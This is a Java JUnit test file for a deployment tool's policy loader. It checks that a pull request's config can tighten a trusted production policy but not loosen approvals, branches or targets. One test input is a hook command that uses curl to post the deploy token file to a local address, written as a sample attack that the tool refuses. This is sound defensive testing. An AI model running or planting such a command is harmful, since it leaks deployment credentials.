package io.genesis.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.genesis.core.policy.Environment;
import io.genesis.core.policy.Percentage;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * A hostile checkout: whoever opens a pull request writes {@code genesis.yaml}. It may tighten the
 * trusted policy, never loosen it, and never name where a protected environment deploys.
 */
class PolicyFilesTest {

    @TempDir
    Path checkout;

    @TempDir
    Path outside;

    private static final String TRUSTED = """
            environments:
              - name: staging
                minPassRate: 95
                minCoverage: 85
                allowedBranches: [main]
                criticality: {coverage: unstable}
                target: {kind: sandbox}
              - name: production
                minPassRate: 98
                minCoverage: 85
                approvalRequired: true
                approvers: [alice]
                allowedBranches: [main, "release/*"]
                allowedTags: ["v*"]
                allowForce: false
                preventSelfApproval: true
                target: {kind: kubernetes, namespace: prod, apiUrl: "https://127.0.0.1:6443", tokenFile: /etc/genesis/token}
            """;

    private Path trusted() throws IOException {
        return Files.writeString(outside.resolve("policy.yaml"), TRUSTED);
    }

    private ConfigFile.Contents read(String genesisYaml) throws Exception {
        Files.writeString(checkout.resolve("genesis.yaml"), genesisYaml);
        return PolicyFiles.locate(trusted(), null, checkout, Map.of(), outside).read();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "minPassRate: 90|line 3, column 5: environments[0] (production): minPassRate 90.00 % would loosen"
                        + " production's 98.00 %",
                "allowedBranches: [\"**\"]|environments[0] (production): allowedBranches [**] would loosen"
                        + " production's [main, release/*]",
                "approvers: [mallory]|approvers [mallory] would loosen production's [alice]",
                "approvalRequired: false|approvalRequired false would loosen production's true",
                "allowForce: true|allowForce true would loosen production's false",
                "protected: false|protected false would loosen production's true",
                "preventSelfApproval: false|preventSelfApproval false would loosen production's true",
                "criticality: {passRate: note}|criticality passRate: note would loosen production's error",
                "allowLoosening: true|allowLoosening true would loosen production's false",
                "maxCoverageDrop: 5|maxCoverageDrop 5.00 would loosen production's 0.00",
                "target: {kind: kubernetes, apiUrl: \"https://127.0.0.1:9\", tokenFile: /tmp/t}|production is"
                        + " protected, and a checkout may not name its target, credentials, token files, environment"
                        + " variables or API addresses",
                "target: {kind: kubernetes, tokenEnv: CI_TOKEN}|production is protected",
                "hooks: {beforeDeploy: {command: \"curl -d @/etc/genesis/token http://127.0.0.1:9\"}}|production is"
                        + " protected, and a checkout may not give it hooks"
            })
    void shouldRefuseWhatWouldLoosenTheTrustedPolicy(String line, String expected) throws IOException {
        Path file = checkout.resolve("genesis.yaml");
        Files.writeString(file, "environments:\n  - name: production\n    " + line + "\n");

        assertThatThrownBy(() -> PolicyFiles.locate(trusted(), null, checkout, Map.of(), outside)
                        .read())
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(file.toString())
                .hasMessageContaining(expected)
                .hasMessageContaining("fix: ");
    }

    @Test
    void shouldNameTheFileTheKeyAndTheFix() throws IOException {
        Path file = checkout.resolve("genesis.yaml");
        Files.writeString(file, "environments:\n  - name: production\n    minPassRate: 90\n");

        assertThatThrownBy(() -> PolicyFiles.locate(trusted(), null, checkout, Map.of(), outside)
                        .read())
                .hasMessage(file + ", line 3, column 5: environments[0] (production): minPassRate 90.00 % would"
                        + " loosen production's 98.00 % from the trusted policy " + trusted() + ", and a checkout's"
                        + " policy may only tighten it; fix: remove minPassRate from this file or make it stricter,"
                        + " or change the trusted policy " + trusted());
    }

    @Test
    void shouldLetTheCheckoutTightenAndAddAnUnprotectedEnvironment() throws Exception {
        ConfigFile.Contents contents = read("""
                environments:
                  - name: production
                    minPassRate: 99.5
                    allowedBranches: [main]
                    approvers: []
                    waitTimerMinutes: 30
                  - name: staging
                    criticality: {coverage: failure}
                  - name: preview
                    minPassRate: 50
                    minCoverage: 0
                    target: {kind: sandbox}
                """);

        Environment production = contents.environments().named("production");
        assertThat(production.gate().minPassRate()).isEqualTo(new Percentage(99.5));
        assertThat(production.refs().branches()).containsExactly("main");
        assertThat(production.approval().administratorsOnly()).isTrue();
        assertThat(production.approval().waitTimer().toMinutes()).isEqualTo(30);
        assertThat(production.allowForce()).isFalse();
        assertThat(contents.target("production").orElseThrow().settings()).containsEntry("namespace", "prod");
        assertThat(contents.target("preview").orElseThrow().kind()).isEqualTo("sandbox");
        assertThat(contents.environments().names()).isEqualTo("staging, production, preview");
    }

    @Test
    void shouldTakeTheBuiltInDefaultsAsTheFloorWithoutATrustedPolicy() throws IOException {
        Path file = Files.writeString(
                checkout.resolve("genesis.yaml"), "environments:\n  - name: production\n    minPassRate: 90\n");

        assertThatThrownBy(() -> PolicyFiles.locate(null, null, checkout, Map.of(), outside)
                        .read())
                .hasMessageStartingWith(file.toString())
                .hasMessageContaining("would loosen production's 98.00 % from the built-in defaults");
    }

    @Test
    void shouldRefuseATrustedPolicyInsideTheCheckout() throws IOException {
        Path planted = Files.writeString(checkout.resolve("policy.yaml"), TRUSTED);

        assertThatThrownBy(() -> PolicyFiles.locate(planted, null, checkout, Map.of(), outside))
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining("is inside the checkout")
                .hasMessageContaining("fix: keep the policy outside the checkout");
    }

    @Test
    void shouldFindTheTrustedPolicyInTheEnvironmentThenInTheUsersHome() throws Exception {
        Path fromEnvironment = trusted();
        Path home = outside.resolve("home");
        Path userDefault = home.resolve(".config/genesis/policy.yaml");
        Files.createDirectories(userDefault.getParent());
        Files.writeString(userDefault, TRUSTED);

        assertThat(PolicyFiles.locate(null, null, checkout, Map.of("GENESIS_POLICY", fromEnvironment.toString()), home)
                        .trusted())
                .contains(fromEnvironment);
        assertThat(PolicyFiles.locate(null, null, checkout, Map.of(), home).trusted())
                .contains(userDefault);
        assertThat(PolicyFiles.locate(null, null, checkout, Map.of(), outside).trusted())
                .isEmpty();
    }

    @Test
    void shouldAddTheCheckoutsHooksAfterTheTrustedOnesWhereTheEnvironmentIsNotProtected() throws Exception {
        Files.writeString(
                outside.resolve("policy.yaml"),
                TRUSTED.replace(
                        "    target: {kind: sandbox}\n",
                        "    target: {kind: sandbox}\n    hooks: {beforeDeploy: {command: ./backup.sh}}\n"));
        Files.writeString(
                checkout.resolve("genesis.yaml"),
                "environments:\n  - name: staging\n    hooks:\n      preTraffic: {command: \"./smoke.sh {url}\"}\n");

        ConfigFile.Contents contents = PolicyFiles.locate(
                        outside.resolve("policy.yaml"), null, checkout, Map.of(), outside)
                .read();

        assertThat(contents.hooks("staging"))
                .extracting(io.genesis.core.hook.Hook::command)
                .containsExactly("./backup.sh", "./smoke.sh {url}");
        assertThat(contents.hooks("production")).isEmpty();
    }
}
